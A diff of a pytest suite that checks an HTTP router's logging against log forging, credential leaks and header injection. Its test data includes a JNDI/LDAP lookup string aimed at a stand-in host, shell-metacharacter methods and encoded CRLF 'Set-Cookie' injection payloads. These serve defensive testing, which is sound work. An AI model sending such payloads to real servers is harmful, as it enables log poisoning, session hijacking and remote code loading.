@@ -10,17 +10,18 @@ import pytest
 
 from router.testing import answer
 from tests.conftest import session_token
-from tests.threats.wire import Answer, arrivals, ask, assert_problem, calling, until, witness
+from tests.threats.wire import arrivals, ask, assert_problem, calling, until, witness
 
 if TYPE_CHECKING:
     from tests.threats.conftest import Fill
     from tests.world import World
 
 
-def logged(here: World, request_id: str) -> tuple[bytes, list[dict[str, Any]]]:
-    """The lines written since the test began, once the one of ``request_id`` is among them."""
-    until(lambda: request_id.encode() in here.router.log.getvalue())
-    raw = here.router.log.getvalue()
+def logged(here: World, since: int, *request_ids: str | None) -> tuple[bytes, list[dict[str, Any]]]:
+    """What was written behind ``since`` bytes, once a line of each request is among it."""
+    wanted = [(one or "").encode() for one in request_ids]
+    until(lambda: all(one in here.router.log.getvalue()[since:] for one in wanted))
+    raw = here.router.log.getvalue()[since:]
     return raw, [orjson.loads(line) for line in raw.splitlines()]
 
 
@@ -32,59 +33,50 @@ STRANGE = (
 )  # fmt: skip
 
 
-@pytest.mark.parametrize("where", ["path", "query", "service", "platform", "page"])
-@pytest.mark.parametrize("strange", STRANGE)
-def test_64_one_event_is_one_line_whatever_the_target_holds(
-    here: World, strange: str, where: str
-) -> None:
-    target = {
-        "path": f"/lanonasis/api/open/{strange}",
-        "query": f"/lanonasis/api/open?a={strange}",
-        "service": f"/lanonasis/api/{strange}",
-        "platform": f"/{strange}/api/open",
-        "page": f"/whoami?{strange}",
-    }[where]
-    told = ask(here, f"GET {target} HTTP/1.1\r\nHost: router\r\n\r\n".encode())
-    assert told.status in (200, 400, 401, 404)
-    assert_one_line(here, told)
+@pytest.mark.parametrize(
+    "target",
+    [
+        "/lanonasis/api/open/{}",
+        "/lanonasis/api/open?a={}",
+        "/lanonasis/api/{}",
+        "/{}/api/open",
+        "/whoami?{}",
+    ],
+)
+def test_64_one_event_is_one_line_whatever_the_target_holds(here: World, target: str) -> None:
+    raw = [f"GET {target.format(one)} HTTP/1.1\r\nHost: router\r\n\r\n" for one in STRANGE]
+    assert_one_line_each(here, [one.encode() for one in raw], 200, 400, 401, 404)
 
 
-FIELDS = {
-    "not ASCII": b"User-Agent: \xff\xfe\x85\xe2\x80\xa8forged\r\n",
-    "quotes": b'User-Agent: "}\\n{"event":"forged"}\r\n',
-    "a format": b"User-Agent: %s%n%d{}${jndi:ldap://evil}\r\n",
-    "a tab": b"User-Agent: a\tforged\r\n",
-    "a request id": b"X-Request-Id: forged\r\n",
-    "an address": b"X-Forwarded-For: forged\r\n",
-    "a referer": b"Referer: forged\xff\r\n",
-    "a trace": b"traceparent: 00-forged-forged-01\r\n",
-}
+FIELDS = (
+    b"User-Agent: \xff\xfe\x85\xe2\x80\xa8forged", b'User-Agent: "}\\n{"event":"forged"}',
+    b"User-Agent: %s%n%d{}${jndi:ldap://forged}", b"User-Agent: a\tforged", b"X-Request-Id: forged",
+    b"X-Forwarded-For: forged", b"Referer: forged\xff", b"traceparent: 00-forged-forged-01",
+)  # fmt: skip
 
 
-@pytest.mark.parametrize("fields", FIELDS.values(), ids=FIELDS)
-def test_64_one_event_is_one_line_whatever_a_field_holds(here: World, fields: bytes) -> None:
-    raw = b"GET /lanonasis/api/open HTTP/1.1\r\nHost: router\r\n" + fields + b"\r\n"
-    assert_one_line(here, ask(here, raw))
+@pytest.mark.parametrize("path", [b"/lanonasis/api/open", b"/lanonasis/api/signed-in", b"/forged"])
+def test_64_one_event_is_one_line_whatever_a_field_holds(here: World, path: bytes) -> None:
+    head = b"GET " + path + b" HTTP/1.1\r\nHost: router\r\n"
+    assert_one_line_each(here, [head + line + b"\r\n\r\n" for line in FIELDS], 200, 401, 404)
 
 
-@pytest.mark.parametrize("method", ["{}", "forged", "%0d%0a", "$`|"])
-def test_64_so_it_is_whatever_the_method_holds(here: World, method: str) -> None:
-    raw = f"{method.replace('{}', '%7B')} /lanonasis/api/open HTTP/1.1\r\nHost: router\r\n\r\n"
-    told = ask(here, raw.encode())
-    assert_problem(told, 405)
-    assert_one_line(here, told, forged=method == "forged")
+def test_64_one_event_is_one_line_whatever_the_method_holds(here: World) -> None:
+    rest = b" /lanonasis/api/open HTTP/1.1\r\nHost: router\r\n\r\n"
+    assert_one_line_each(here, [one + rest for one in (b"%7B", b"%0d%0a", b"$`|", b"'~^")], 405)
 
 
-def assert_one_line(here: World, told: Answer, *, forged: bool = False) -> None:
-    request_id = told.one("x-request-id") or ""
-    raw, lines = logged(here, request_id)
-    mine = [line for line in lines if line.get("request_id") == request_id]
-    assert len(mine) == 1
-    assert mine[0]["event"] == "request"
-    assert mine[0]["status"] == told.status
-    assert b"forged" not in orjson.dumps(mine) or forged
+def assert_one_line_each(here: World, requests: list[bytes], *statuses: int) -> None:
+    since = len(here.router.log.getvalue())
+    told = [ask(here, raw) for raw in requests]
+    raw, lines = logged(here, since, *(one.one("x-request-id") for one in told))
+    for one in told:
+        assert one.status in statuses
+        mine = [line for line in lines if line.get("request_id") == one.one("x-request-id")]
+        assert [(line["event"], line["status"]) for line in mine] == [("request", one.status)]
+        assert b"forged" not in orjson.dumps(mine)
     assert not raw.translate(None, bytes(range(32, 256)) + b"\n"), "no control character is raw"
-    assert all(line["event"] in ("request", "rejected", "log") for line in lines)
+    assert {line["event"] for line in lines} <= {"request", "rejected", "log"}
 
 
 @pytest.mark.parametrize("fields", [b"User-Agent: \x1b[2J\r\n", b"User-Agent: a\nforged: b\r\n"])
@@ -104,8 +96,9 @@ def test_65_no_credential_stands_in_a_log_line_or_a_metric(
     here: World, token: str, api_key: str, fill: Fill, caplog: pytest.LogCaptureFixture
 ) -> None:
     caplog.set_level(logging.DEBUG)
+    since = len(here.router.log.getvalue())
     bad = session_token(here.env, iss="https://other.example")
-    secret_query = "password=hunter22"  # noqa: S105  a marker
+    query = "password=hunter22"
     carried = [
         f"Authorization: Bearer {token}", f"AUTHORIZATION: Bearer {bad}", f"X-API-Key: {api_key}",
         f"x-api-key: {api_key[:-1]}x", f"Cookie: lanonasis_session={token}; a=hunter22",
@@ -114,15 +107,14 @@ def test_65_no_credential_stands_in_a_log_line_or_a_metric(
         f"Proxy-Authorization: Bearer {token}", "X-Webhook-Secret: hunter22\x0b",
     ]  # fmt: skip
     services = ("open", "signed-in", "owned", "hooked", "gone", "login", "private", "nothing", "..")
-    last = None
     for service in services:
         for line in carried:
-            raw = f"POST /lanonasis/api/{service}?{secret_query} HTTP/1.1\r\nHost: router\r\n{line}\r\n"
-            last = ask(here, f"{raw}Content-Length: 8\r\n\r\nhunter22".encode())
+            raw = f"POST /lanonasis/api/{service}?{query} HTTP/1.1\r\nHost: router\r\n{line}\r\n"
+            ask(here, f"{raw}Content-Length: 8\r\n\r\nhunter22".encode())
     here.origin.reply = b"HTTP/1.1 200 OK\r\nX-A: hunter22\x00\r\nContent-Length: 0\r\n\r\n"
     last = ask(here, fill(b"POST <P> HTTP/1.1\r\n<H>Content-Length: 0\r\n\r\n"))
     here.origin.reply = answer()
-    raw_log, _ = logged(here, last.one("x-request-id") or "")
+    raw_log, _ = logged(here, since, last.one("x-request-id"))
     admin = here.env["ROUTER_ADMIN_TOKEN"]
     numbers = ask(
         here, f"GET /metrics HTTP/1.1\r\nHost: r\r\nAuthorization: Bearer {admin}\r\n\r\n".encode()
@@ -130,7 +122,9 @@ def test_65_no_credential_stands_in_a_log_line_or_a_metric(
     assert numbers.status == 200
     everything = raw_log.decode() + caplog.text + numbers.body.decode()
     secrets = [token, bad, api_key, api_key[:-1], admin, "hunter22", "aHVudGVyMjI6aHVudGVyMjI="]
-    secrets += [here.env[name] for name in ("WEBHOOK_SECRET", "EDGE_FUNCTIONS_KEY", "SSO_JWT_SECRET")]
+    secrets += [
+        here.env[name] for name in ("WEBHOOK_SECRET", "EDGE_FUNCTIONS_KEY", "SSO_JWT_SECRET")
+    ]
     assert not [secret for secret in secrets if secret in everything]
     assert not [secret for secret in secrets if secret.rpartition(".")[2] in everything]
 
@@ -138,8 +132,9 @@ def test_65_no_credential_stands_in_a_log_line_or_a_metric(
 # 66: line ends that come back as a field
 
 REFLECTED = (
-    "%0d%0aSet-Cookie:%20evil=1", "%0d%0a%0d%0aevil", "%0aSet-Cookie:evil=1", "%0dSet-Cookie:evil=1",
-    "%E5%98%8A%E5%98%8DSet-Cookie:evil=1", "%250d%250aSet-Cookie:evil=1", "%c4%8d%c4%8aSet-Cookie:evil",
+    "%0d%0aSet-Cookie:%20evil=1", "%0d%0a%0d%0aevil", "%0aSet-Cookie:evil=1",
+    "%0dSet-Cookie:evil=1", "%E5%98%8A%E5%98%8DSet-Cookie:evil=1", "%250d%250aSet-Cookie:evil=1",
+    "%c4%8d%c4%8aSet-Cookie:evil",
     "\\r\\nSet-Cookie:evil=1", "%u000aSet-Cookie:evil=1", "%23%0aSet-Cookie:evil=1",
 )  # fmt: skip
 
